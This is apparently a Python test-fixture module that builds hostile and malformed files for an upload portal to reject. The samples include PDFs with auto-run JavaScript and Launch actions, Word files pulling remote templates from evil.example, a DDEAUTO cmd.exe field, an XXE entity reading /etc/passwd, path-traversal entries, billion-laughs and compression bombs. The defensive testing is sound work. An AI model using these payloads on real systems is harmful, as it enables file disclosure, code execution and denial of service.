"""Files that must not come in, made here, by what is wrong with them."""

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator
from pathlib import Path

from PIL import Image

from tests.portal.documents.making import (
    W,
    container,
    docx,
    odt,
    pdf,
    pikepdf,
    pptx,
    relations,
    resaved,
)

JS = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
Hostile = tuple[str, str, bytes]  # what is wrong, name, content
ENTITIES = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "lol">' + "".join(
    f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9)) + "]>"


def all_of_them() -> Iterator[Hostile]:
    """Every file, one after another."""
    for make in (_acting_pdfs, _broken_pdfs, _bombs, _office, _open_documents, _others, _images):
        yield from make()


def _acting_pdfs() -> Iterator[Hostile]:
    filed = "<< /Type /Filespec /F (a.exe) /EF << /F 60 0 R >> >>"
    held = {60: "<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream"}

    def annotation(inside: str) -> str:
        return f"/Annots [<< /Type /Annot /Rect [0 0 9 9] {inside} >>]"

    cases = {
        "script at opening": pdf(catalog=f"/OpenAction {JS}"),
        "script by reference": pdf(catalog="/OpenAction 60 0 R", more={60: JS}),
        "named script": pdf(catalog=f"/Names << /JavaScript << /Names [(a) {JS}] >> >>"),
        "script of a page": pdf(page=f"/AA << /O {JS} >>"),
        "script of a link": pdf(page=annotation(f"/Subtype /Link /A {JS}")),
        "script with another name": pdf(catalog="/OpenAction << /S /J#61vaScript /J#53 (x) >>"),
        "script after another": pdf(
            catalog=f"/OpenAction << /S /GoTo /D [100 0 R /Fit] /Next {JS} >>"),
        "hidden script": resaved(pdf(catalog="/OpenAction 60 0 R", more={60: JS}),
                                 object_stream_mode=pikepdf.ObjectStreamMode.generate),
        "starts a program": pdf(catalog="/OpenAction << /S /Launch /F (cmd.exe) >>"),
        "program of a link": pdf(page=annotation("/Subtype /Link /A << /S /Launch /F (a) >>")),
        "calls home": pdf(catalog="/OpenAction << /S /URI /URI (http://evil.example/) >>"),
        "opens another file": pdf(catalog="/OpenAction << /S /GoToR /F (//evil/a) /D [0] >>"),
        "sends a form": pdf(page=annotation("/A << /S /SubmitForm /F (http://e.example) >>")),
        "imports data": pdf(page=annotation("/A << /S /ImportData /F (a.fdf) >>")),
        "XFA form": pdf(catalog="/AcroForm << /Fields [] /XFA (x) >>"),
        "rich media": pdf(page=annotation("/Subtype /RichMedia /RichMediaContent << >>")),
        "3D": pdf(page=annotation("/Subtype /3D /3DD << >>")),
        "film": pdf(page=annotation("/Subtype /Movie /Movie << /F (a.avi) >>")),
        "sound": pdf(page=annotation("/A << /S /Sound >>")),
        "attached file": pdf(catalog=f"/Names << /EmbeddedFiles << /Names [(a) {filed}] >> >>",
                             more=held),
        "file in an annotation": pdf(page=annotation(f"/Subtype /FileAttachment /FS {filed}"),
                                     more=held),
        "portfolio": pdf(catalog="/Collection << /View /D >>"),
        "goes into an attached file": pdf(page=annotation("/A << /S /GoToE /T << >> >>")),
    }
    for wrong, content in cases.items():
        yield wrong, "a.pdf", content


def _broken_pdfs() -> Iterator[Hostile]:
    locked = pikepdf.Encryption(owner="o", user="u")
    printed_only = pikepdf.Encryption(owner="o", user="")
    whole = pdf(["words"] * 40)
    yield "locked", "a.pdf", resaved(pdf(), encryption=locked)
    yield "locked against changes", "a.pdf", resaved(pdf(), encryption=printed_only)
    yield "cut off", "a.pdf", whole[: len(whole) // 2]
    yield "cut off at the end", "a.pdf", whole[:-40]
    yield "empty", "a.pdf", b""
    yield "only its beginning", "a.pdf", b"%PDF-1.7\n"
    yield "nonsense", "a.pdf", b"%PDF-1.7\n" + bytes(range(256)) * 400
    yield "pages in a circle", "a.pdf", pdf(
        more={2: "<< /Type /Pages /Count 9 /Kids [60 0 R] >>",
              60: "<< /Type /Pages /Parent 2 0 R /Count 9 /Kids [2 0 R] >>"})
    yield "no pages", "a.pdf", pdf([])
    yield "a thousand pages too many", "a.pdf", pdf(["x"] * 6_000)
    yield "web page before it", "a.pdf", b"<html><script>1</script></html>\n" + pdf()


def _bombs() -> Iterator[Hostile]:
    zeros = zlib.compressobj(9)
    packed = b"".join(zeros.compress(bytes(1_000_000)) for _n in range(900)) + zeros.flush()
    stream = f"<< /Type /ObjStm /N 1 /First 5 /Filter /FlateDecode /Length {len(packed)} >>"
    start = pdf(more={60: stream + "\nstream\n" + packed.decode("latin-1") + "\nendstream"})
    # The catalogue's action is said to lie in that stream.
    table = b"<< /Type /XRef /Size 71 /W [1 4 2] /Root 1 0 R /Length 7 /Index [70 1] /Prev %d >>"
    prev = int(start.rsplit(b"startxref\n", 1)[1].split(b"\n")[0])
    at = len(start)
    entry = struct.pack(">BIH", 2, 60, 0)
    yield "bomb in an object stream", "a.pdf", start + b"61 0 obj\n" + table % prev \
        + b"\nstream\n" + entry + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % at
    yield "bomb in a container", "a.docx", docx(more={"word/media/a.xml": bytes(400_000_000)})
    yield "bomb in a picture of it", "a.docx", docx(more={"word/media/a.png": bytes(60_000_000)})
    yield "too many parts", "a.docx", container(
        {"[Content_Types].xml": "<x/>", **{f"{n}.txt": "" for n in range(11_000)}})
    laughs = ENTITIES + f'<w:document xmlns:w="{W}"><w:t>&j;</w:t></w:document>'
    yield "a billion laughs", "a.docx", docx(more={"word/extra.xml": laughs})
    yield "outside entity", "a.docx", docx(more={
        "word/extra.xml": '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'})
    yield "very deep", "a.docx", docx(body="<w:a>" * 100_000 + "</w:a>" * 100_000)


def _office() -> Iterator[Hostile]:
    cases: dict[str, bytes] = {
        "macros": docx(more={"word/vbaProject.bin": b"x"}),
        "macros by type": docx(kind="application/vnd.ms-word.document.macroEnabled.main+xml"),
        "template from elsewhere": docx(more={"word/_rels/settings.xml.rels": relations(
            ("r", "attachedTemplate", "http://evil.example/a.dotm"), external=True)}),
        "picture from elsewhere": docx(more={"word/_rels/document.xml.rels": relations(
            ("r", "image", "http://evil.example/a.png"), external=True)}),
        "link to a share": docx(more={"word/_rels/document.xml.rels": relations(
            ("r", "hyperlink", "file://evil/share"), external=True)}),
        "object of another program": docx(more={"word/embeddings/oleObject1.bin": b"x"}),
        "program inside": docx(more={"word/embeddings/a.exe": b"MZ"}),
        "control": docx(more={"word/activeX/activeX1.xml": "<x/>"}),
        "field that starts a program": docx(
            body="<w:p><w:r><w:instrText> DDEAUTO c:\\\\cmd.exe </w:instrText></w:r></w:p>"),
        "locked": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500)
                  + "EncryptedPackage".encode("utf-16-le"),
        "old format": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(5000),
        "cut off": docx()[:-60],
        "leaves its folder": docx(more={"../../etc/a.xml": "<x/>"}),
        "slides called a text": pptx(),
        "any container": container({"a.txt": "x"}),
        "damaged": docx().replace(b"word/document.xml", b"word/document.xmI", 1),
        "no XML": docx(more={"word/extra.xml": "<a><b></a>"}),
        "locked part": _locked(docx()),
    }
    for wrong, content in cases.items():
        yield wrong, "a.docx", content
    yield "control", "a.pptx", pptx(more={"ppt/activeX/activeX1.xml": "<x/>"})
    yield "macros", "a.pptx", pptx(more={"ppt/vbaProject.bin": b"x"})


def _locked(content: bytes) -> bytes:
    """The container with every part marked as locked."""
    changed = bytearray(content)
    with zipfile.ZipFile(io.BytesIO(content)) as opened:
        for part in opened.infolist():
            changed[part.header_offset + 6] |= 1
    place = changed.find(b"PK\x01\x02")
    while place >= 0:
        changed[place + 8] |= 1
        place = changed.find(b"PK\x01\x02", place + 4)
    return bytes(changed)


def _open_documents() -> Iterator[Hostile]:
    locked = "<m xmlns='m'><file-entry><encryption-data/></file-entry></m>"
    yield "macros", "a.odt", odt(more={"Basic/Standard/Module1.xml": "<x/>"})
    yield "locked", "a.odt", odt(more={"META-INF/manifest.xml": locked})
    yield "object from elsewhere", "a.odt", odt(
        body='<draw:object xlink:href="http://evil.example/a"/>')
    yield "listens to events", "a.odt", odt(
        body='<script:event-listener script:language="ooo:script"/>')


def _others() -> Iterator[Hostile]:
    yield "program", "a.pdf", b"MZ" + bytes(2000)
    yield "program", "a.txt", b"\x7fELF" + bytes(2000)
    yield "web page", "a.pdf", b"<!doctype html><script>alert(1)</script>"
    yield "web page", "a.txt", b"\n <HTML><script>alert(1)</script>"
    yield "shell", "a.txt", b"#!/bin/sh\nrm -rf x\n"
    yield "NUL", "a.txt", b"text\0text"
    yield "other kind", "a.exe", b"MZ"
    yield "two endings", "a.pdf.html", pdf()
    yield "too long a text", "a.txt", b"word " * 4_200_000


def _images() -> Iterator[Hostile]:
    good = io.BytesIO()
    Image.new("RGB", (400, 300), "red").save(good, "JPEG")
    yield "cut off", "a.jpg", good.getvalue()[:-300]
    yield "drawing with scripts", "a.png", b"<svg><script>1</script></svg>"
    yield "other kind", "a.png", good.getvalue()
    yield "too many pixels", "a.png", _huge_png()
    yield "paper", "a.png", pdf()


def _huge_png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(
            ">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", 30_000, 30_000, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(
        b"IDAT", zlib.compress(bytes(1_000_000))) + chunk(b"IEND", b"")


def huge(folder: Path) -> Path:
    """A PDF of 300 MB, most of it nothing, which needs no room on the disk."""
    path = folder / "a.pdf"
    with path.open("wb") as stream:
        stream.write(b"%PDF-1.7\n")
        stream.truncate(300_000_000)
    return path
